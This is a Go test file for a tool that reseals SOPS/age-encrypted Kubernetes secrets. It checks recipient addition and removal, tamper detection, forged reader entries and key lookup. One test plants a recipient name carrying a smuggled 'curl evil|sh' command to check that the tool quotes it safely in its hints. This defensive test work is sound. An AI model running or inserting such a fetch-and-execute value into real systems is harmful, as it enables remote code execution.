package secrets

import (
	"bytes"
	"crypto/rand"
	"errors"
	"os"
	"strings"
	"testing"
	"time"

	"filippo.io/age"
	"filippo.io/age/armor"
	"go.yaml.in/yaml/v3"
)

const flask, role = "deploy/prod/secrets/mlflow.flask-key.yaml", "deploy/prod/secrets/mlflow.postgres.password.yaml"

func TestWhoIsAddedReadsTheSameValuesAndTheirTextStays(t *testing.T) {
	dir, first, second := t.TempDir(), identity(t), identity(t)
	cluster := clusterFor(t, dir, first)
	value, revisions := mustOpen(t, dir, flask, first), mustRevisions(t, cluster)
	before := get(t, dir, flask)
	cluster.Recipients = append(cluster.Recipients, second.Recipient().String())
	if names, err := cluster.SealedForOthers(); err != nil || len(names) != 2 {
		t.Errorf("sealed for others: %q, %v", names, err)
	}
	r, err := cluster.Reseal(declared, keysOf(t, first), rand.Reader, now.Add(time.Hour))
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Wrapped) != 2 || len(r.Anew) != 0 || strings.Join(r.Added, "") != second.Recipient().String() || r.Removed != nil {
		t.Errorf("%+v", r)
	}
	for _, owner := range []*age.X25519Identity{first, second} {
		if got := mustOpen(t, dir, flask, owner); got != value {
			t.Errorf("reads %q, not %q", got, value)
		}
	}
	after := get(t, dir, flask)
	for _, part := range []string{"value: ENC", "mac: ENC", "lastmodified:"} {
		if line(before, part) != line(after, part) {
			t.Errorf("%s changed", part)
		}
	}
	if got := mustRevisions(t, cluster); got["mlflow.flask-key"] != revisions["mlflow.flask-key"] {
		t.Errorf("the revision changed")
	}
	if r, err = cluster.Reseal(declared, Identities{}, rand.Reader, now); err != nil || len(r.Unchanged) != 2 || get(t, dir, flask) != after {
		t.Errorf("again, without a key: %+v, %v", r, err)
	}
}

func TestWhoIsRemovedReadsNothingThatIsSealedFromThenOn(t *testing.T) {
	dir, first, second := t.TempDir(), identity(t), identity(t)
	cluster := clusterFor(t, dir, first, second)
	value, revisions := mustOpen(t, dir, role, second), mustRevisions(t, cluster)
	put(t, dir, role, get(t, dir, role)+"# a person's note\n")
	before := get(t, dir, role)
	cluster.Recipients = cluster.Recipients[1:]
	r, err := cluster.Reseal(declared, keysOf(t, second), rand.Reader, now.Add(time.Hour))
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Anew) != 2 || len(r.Wrapped) != 0 || strings.Join(r.Removed, "") != first.Recipient().String() {
		t.Errorf("%+v", r)
	}
	after := get(t, dir, role)
	if got := mustOpen(t, dir, role, second); got != value {
		t.Errorf("reads %q, not %q", got, value)
	}
	if got, err := open([]byte(after), first); err == nil {
		t.Errorf("who was removed reads %q", got)
	}
	key, err := openKey(mustObject(t, before).SOPS.Age, first)
	if err != nil {
		t.Fatal(err)
	}
	if text, _, err := unenc(key, mustObject(t, after).StringData["value"], "stringData:value:"); err == nil {
		t.Errorf("the old data key opens %q", text)
	}
	if mustRevisions(t, cluster)["mlflow.postgres.password"] == revisions["mlflow.postgres.password"] || !strings.Contains(after, "a person's note") {
		t.Errorf("it is\n%s", after)
	}
}

func TestResealChangesWhatSOPSMade(t *testing.T) {
	owner, other := testdataOwner(t), identity(t)
	for _, file := range sopsMade {
		for what, to := range map[string][]string{
			"more":   {owner.Recipient().String(), other.Recipient().String()},
			"others": {other.Recipient().String()},
		} {
			dir := t.TempDir()
			put(t, dir, "deploy/prod/secrets/feast.key.yaml", get(t, ".", file))
			cluster := Cluster{dir, "prod", "mlops-prod", to}
			if _, err := cluster.Reseal(declared, keysOf(t, owner), rand.Reader, now); err != nil {
				t.Errorf("%s, %s: %v", file, what, err)
			}
			if got := mustOpen(t, dir, "deploy/prod/secrets/feast.key.yaml", other); got != "hunter2" {
				t.Errorf("%s, %s: reads %q", file, what, got)
			}
		}
	}
}

func TestResealSaysWhoCouldOpenWhatCantBe(t *testing.T) {
	dir, first, second := t.TempDir(), identity(t), identity(t)
	cluster := clusterFor(t, dir, first)
	before := get(t, dir, flask)
	tampered := strings.Replace(get(t, dir, role), "namespace: mlops-prod", "namespace: mlops-test", 1)
	cluster.Recipients = []string{second.Recipient().String()}
	_, err := cluster.Reseal(declared, keysOf(t, second), rand.Reader, now)
	wantProblems(t, err, []string{"none of your age keys, " + second.Recipient().String() + ", opens what is sealed in deploy/prod/secrets: mlflow.flask-key, mlflow.postgres.password"},
		"with its private key in SOPS_AGE_KEY_FILE any of these can: "+first.Recipient().String()+"\nwhere nobody has one any more, a cluster that runs still has the values:\n"+
			"for s in mlflow.flask-key mlflow.postgres.password; do kubectl get secret $s --namespace mlops-prod --output jsonpath='{.data.value}{.data.password}' | base64 -d | mlops-gitops secrets set prod $s; done\n"+
			"or what can gets a new value:\nmlops-gitops secrets rotate prod mlflow.flask-key mlflow.postgres.password\n")
	nobody, err := FindIdentities(func(name string) (string, bool) { return "", false })
	if err != nil {
		t.Fatal(err)
	}
	_, err = cluster.Reseal(declared, nobody, rand.Reader, now)
	if err == nil || !strings.Contains(err.Error(), "there is no age private key in SOPS_AGE_KEY, SOPS_AGE_KEY_FILE, ") {
		t.Errorf("without a key: %v", err)
	}
	put(t, dir, role, tampered)
	_, err = cluster.Reseal(declared, keysOf(t, first), rand.Reader, now)
	wantProblems(t, err, []string{role + ": it was changed after it was encrypted"}, "take it back from Git")
	put(t, dir, role, before+"# ENC[AES256_GCM,data:x,iv:x,tag:x,type:comment]\n")
	_, err = cluster.Reseal(declared, keysOf(t, first), rand.Reader, now)
	wantProblems(t, err, []string{role + ": it holds an encrypted comment"}, "")
	put(t, dir, role, strings.Replace(before, "sops:\n", "sops:\n    pgp:\n        - fp: A\n", 1))
	_, err = cluster.Reseal(declared, keysOf(t, first), rand.Reader, now)
	wantProblems(t, err, []string{role + " is encrypted for other keys than age's, too"}, "sops updatekeys secrets/mlflow.postgres.password.yaml")
	if get(t, dir, flask) != before {
		t.Error("a file changed all the same")
	}
}

// Whoever can write to Git can add a reader and call it what they like.
func TestAStrangerInANamedReadersNameIsSeen(t *testing.T) {
	first, second, evil := identity(t), identity(t), identity(t)
	for what, forge := range map[string]func(o object, key []byte) []sealedKey{
		"a second key of the name": func(o object, key []byte) []sealedKey {
			return append(o.SOPS.Age, sealedKey{first.Recipient().String(), mustSeal(t, key, evil)})
		},
		"one key for two": func(o object, key []byte) []sealedKey {
			o.SOPS.Age[0].Enc = mustSeal(t, key, first, evil)
			return o.SOPS.Age
		},
		"another key of the name": func(o object, key []byte) []sealedKey {
			o.SOPS.Age[1].Enc = mustSeal(t, key, evil)
			return o.SOPS.Age
		},
	} {
		dir := t.TempDir()
		cluster := clusterFor(t, dir, first, second)
		o := mustObject(t, get(t, dir, flask))
		key, err := openKey(o.SOPS.Age, first)
		if err != nil {
			t.Fatal(err)
		}
		value := mustOpen(t, dir, flask, first)
		reseal(t, dir, flask, forge(o, key))
		if got := mustOpen(t, dir, flask, evil); got != value {
			t.Fatalf("%s: the stranger reads %q", what, got)
		}
		named := "somebody else in the name of " + o.SOPS.Age[0].Recipient
		own := keysOf(t, first)
		if strings.HasPrefix(what, "another") { // only who has the name's own key can know
			named, own = "somebody else in the name of "+o.SOPS.Age[1].Recipient, keysOf(t, first, second)
		} else if names, err := cluster.SealedForOthers(); err != nil || strings.Join(names, "") != "mlflow.flask-key" {
			t.Errorf("%s: without a key, sealed for others: %q, %v", what, names, err)
		}
		r, err := cluster.Reseal(declared, own, rand.Reader, now)
		if err != nil || strings.Join(r.Removed, "") != named || strings.Join(r.Anew, "") != "mlflow.flask-key" {
			t.Errorf("%s: %+v, %v", what, r, err)
		}
		if got := mustOpen(t, dir, flask, second); got != value {
			t.Errorf("%s: the second reads %q", what, got)
		}
		if got, err := open([]byte(get(t, dir, flask)), evil); err == nil {
			t.Errorf("%s: the stranger reads %q", what, got)
		}
		if r, err = cluster.Reseal(declared, own, rand.Reader, now); err != nil || len(r.Unchanged) != 2 {
			t.Errorf("%s: again: %+v, %v", what, r, err)
		}
	}
}

// A key that is there in a name that stays is not carried on when the file gets one reader more.
func TestOneReaderMoreLeavesNoStranger(t *testing.T) {
	dir, first, second, third, evil := t.TempDir(), identity(t), identity(t), identity(t), identity(t)
	cluster := clusterFor(t, dir, first, second)
	o := mustObject(t, get(t, dir, flask))
	key, err := openKey(o.SOPS.Age, first)
	if err != nil {
		t.Fatal(err)
	}
	o.SOPS.Age[1].Enc = mustSeal(t, key, evil)
	reseal(t, dir, flask, o.SOPS.Age)
	cluster.Recipients = append(cluster.Recipients, third.Recipient().String())
	if _, err := cluster.Reseal(declared, keysOf(t, first), rand.Reader, now); err != nil {
		t.Fatal(err)
	}
	mustOpen(t, dir, flask, second)
	if got, err := open([]byte(get(t, dir, flask)), evil); err == nil {
		t.Errorf("the stranger reads %q", got)
	}
}

func TestOwnersOfOtherKeysAreReaders(t *testing.T) {
	dir, owner := t.TempDir(), identity(t)
	cluster := clusterFor(t, dir, owner)
	before := get(t, dir, flask)
	for _, others := range []string{"pgp:\n        - fp: A", "a_new_kind:\n        - id: A", "key_groups:\n        - age: []"} {
		put(t, dir, flask, strings.Replace(before, "sops:\n", "sops:\n    "+others+"\n", 1))
		if names, err := cluster.SealedForOthers(); err != nil || strings.Join(names, "") != "mlflow.flask-key" {
			t.Errorf("%s: sealed for others: %q, %v", others, names, err)
		}
		_, err := cluster.Reseal(declared, keysOf(t, owner), rand.Reader, now)
		wantProblems(t, err, []string{flask + " is encrypted for other keys than age's, too"}, "sops updatekeys")
	}
	put(t, dir, flask, strings.Replace(before, "sops:\n", "sops:\n    kms: []\n    shamir_threshold: 0\n", 1))
	if names, err := cluster.SealedForOthers(); err != nil || names != nil {
		t.Errorf("with empty lists: %q, %v", names, err)
	}
}

func TestWhatWasChangedIsSealedForNobodyElse(t *testing.T) {
	dir, first, second := t.TempDir(), identity(t), identity(t)
	cluster := clusterFor(t, dir, first)
	tampered := strings.Replace(get(t, dir, flask), "type: Opaque", "type: Other", 1)
	put(t, dir, flask, tampered)
	cluster.Recipients = append(cluster.Recipients, second.Recipient().String())
	_, err := cluster.Reseal(declared, keysOf(t, first), rand.Reader, now)
	wantProblems(t, err, []string{flask + ": it was changed after it was encrypted"}, "take it back from Git")
	if get(t, dir, flask) != tampered {
		t.Error("the file changed")
	}
}

// A recipient's name stands in hints, among commands.
func TestARecipientThatIsNoKeyIsQuoted(t *testing.T) {
	dir, owner := t.TempDir(), identity(t)
	cluster := clusterFor(t, dir, owner)
	reseal(t, dir, flask, append(mustObject(t, get(t, dir, flask)).SOPS.Age, sealedKey{"age1x\n  curl evil|sh", "x"}))
	_, err := cluster.Reseal(declared, keysOf(t, identity(t)), rand.Reader, now)
	if p := (*Problem)(nil); !errors.As(err, &p) || strings.Contains(p.Fix, "\n  curl") || !strings.Contains(p.Fix, `"age1x\n  curl evil|sh"`) {
		t.Errorf("%+v", p)
	}
}

func TestARecipientThatIsNamedTwiceIsOne(t *testing.T) {
	dir, owner := t.TempDir(), identity(t)
	cluster := clusterFor(t, dir, owner, owner)
	if names, err := cluster.SealedForOthers(); err != nil || names != nil || len(mustObject(t, get(t, dir, flask)).SOPS.Age) != 1 {
		t.Errorf("sealed for others: %q, %v", names, err)
	}
}

// mustSeal is a data key as an age file for some.
func mustSeal(t *testing.T, key []byte, owners ...*age.X25519Identity) string {
	t.Helper()
	var to []age.Recipient
	for _, owner := range owners {
		to = append(to, owner.Recipient())
	}
	var out bytes.Buffer
	armored := armor.NewWriter(&out)
	w, err := age.Encrypt(armored, to...)
	if err == nil {
		_, err = w.Write(key)
	}
	if err = errors.Join(err, w.Close(), armored.Close()); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

// reseal puts other data keys into a file, as somebody does who can write to Git.
func reseal(t *testing.T, dir, file string, keys []sealedKey) {
	t.Helper()
	var node yaml.Node
	err := yaml.Unmarshal([]byte(get(t, dir, file)), &node)
	envelope, ferr := field(&node, "sops")
	if err = errors.Join(err, ferr); err == nil {
		err = setField(envelope, "age", keys)
	}
	data, merr := yaml.Marshal(&node)
	if err = errors.Join(err, merr); err != nil {
		t.Fatal(err)
	}
	put(t, dir, file, string(data))
}

func TestIdentitiesAreThoseOfSOPS(t *testing.T) {
	one, two, three := identity(t), identity(t), identity(t)
	hybrid, err := age.GenerateHybridIdentity()
	if err != nil {
		t.Fatal(err)
	}
	home := t.TempDir()
	t.Setenv("XDG_CONFIG_HOME", home)
	t.Setenv("HOME", home)
	folder, err := os.UserConfigDir()
	if err != nil {
		t.Fatal(err)
	}
	put(t, folder, "sops/age/keys.txt", "# a note\n\n"+three.String()+"\n"+hybrid.String()+"\n")
	put(t, home, "key", two.String())
	env := map[string]string{"SOPS_AGE_KEY": " " + one.String() + " " + two.String(), "SOPS_AGE_KEY_FILE": home + "/key"}
	found, err := FindIdentities(lookup(env))
	if err != nil {
		t.Fatal(err)
	}
	want := []string{one.Recipient().String(), two.Recipient().String(), two.Recipient().String(), three.Recipient().String(), hybrid.Recipient().String()}
	if strings.Join(found.public, " ") != strings.Join(want, " ") {
		t.Errorf("found %q, want %q", found.public, want)
	}
	for text, want := range map[string]string{
		"AGE-SECRET-KEY-1QQ":                    "line 1 of SOPS_AGE_KEY is not an age private key",
		one.Recipient().String():                "line 1 of SOPS_AGE_KEY is not an age private key",
		"AGE-PLUGIN-YUBIKEY-1Q":                 "line 1 of SOPS_AGE_KEY is a key of a plugin, which only age and sops can ask",
		"-----BEGIN AGE ENCRYPTED FILE-----\nx": "SOPS_AGE_KEY is encrypted with a passphrase, which is not asked for here",
	} {
		_, err := FindIdentities(lookup(map[string]string{"SOPS_AGE_KEY": text}))
		if p := (*Problem)(nil); !errors.As(err, &p) || p.Msg != want {
			t.Errorf("%s: %v", want, err)
		}
	}
	if _, err := FindIdentities(lookup(map[string]string{"SOPS_AGE_KEY_FILE": home + "/none"})); err == nil || !strings.Contains(err.Error(), "SOPS_AGE_KEY_FILE: ") {
		t.Errorf("a file that is not there: %v", err)
	}
}

func TestRevisionsAreOfValues(t *testing.T) {
	dir, owner := t.TempDir(), identity(t)
	cluster := clusterFor(t, dir, owner)
	before := mustRevisions(t, cluster)
	put(t, dir, "deploy/prod/secrets/kustomization.yaml", "kind: Kustomization\n")
	put(t, dir, "deploy/prod/secrets/plain.yaml", "kind: Secret\nstringData: {value: x}\n")
	put(t, dir, flask, get(t, dir, flask)+"# a note\n")
	if after := mustRevisions(t, cluster); len(before) != 2 || len(after) != 2 || before["mlflow.flask-key"] != after["mlflow.flask-key"] {
		t.Errorf("%q, then %q", before, after)
	}
	if _, err := cluster.Rotate(declared, []string{"mlflow.flask-key"}, nil, rand.Reader, now); err != nil {
		t.Fatal(err)
	}
	after := mustRevisions(t, cluster)
	if after["mlflow.flask-key"] == before["mlflow.flask-key"] || after["mlflow.postgres.password"] != before["mlflow.postgres.password"] {
		t.Errorf("%q, then %q", before, after)
	}
}

func lookup(env map[string]string) func(string) (string, bool) {
	return func(name string) (string, bool) { v, ok := env[name]; return v, ok }
}

// keysOf are a person's own keys.
func keysOf(t *testing.T, owners ...*age.X25519Identity) (i Identities) {
	t.Helper()
	for _, owner := range owners {
		if err := i.read("a test", []byte(owner.String())); err != nil {
			t.Fatal(err)
		}
	}
	return i
}

// clusterFor has a value for each declared secret, sealed for its owners.
func clusterFor(t *testing.T, dir string, owners ...*age.X25519Identity) Cluster {
	t.Helper()
	c := Cluster{Dir: dir, Env: "prod", Namespace: "mlops-prod"}
	for _, owner := range owners {
		c.Recipients = append(c.Recipients, owner.Recipient().String())
	}
	if _, err := c.Generate(declared, rand.Reader, now); err != nil {
		t.Fatal(err)
	}
	return c
}

func mustOpen(t *testing.T, dir, file string, owner age.Identity) string {
	t.Helper()
	value, err := open([]byte(get(t, dir, file)), owner)
	if err != nil {
		t.Fatalf("%s: %v", file, err)
	}
	return value
}

func mustRevisions(t *testing.T, c Cluster) map[string]string {
	t.Helper()
	revisions, err := c.Revisions()
	if err != nil {
		t.Fatal(err)
	}
	return revisions
}

func mustObject(t *testing.T, data string) object {
	t.Helper()
	o, err := parse([]byte(data))
	if err != nil {
		t.Fatal(err)
	}
	return o
}
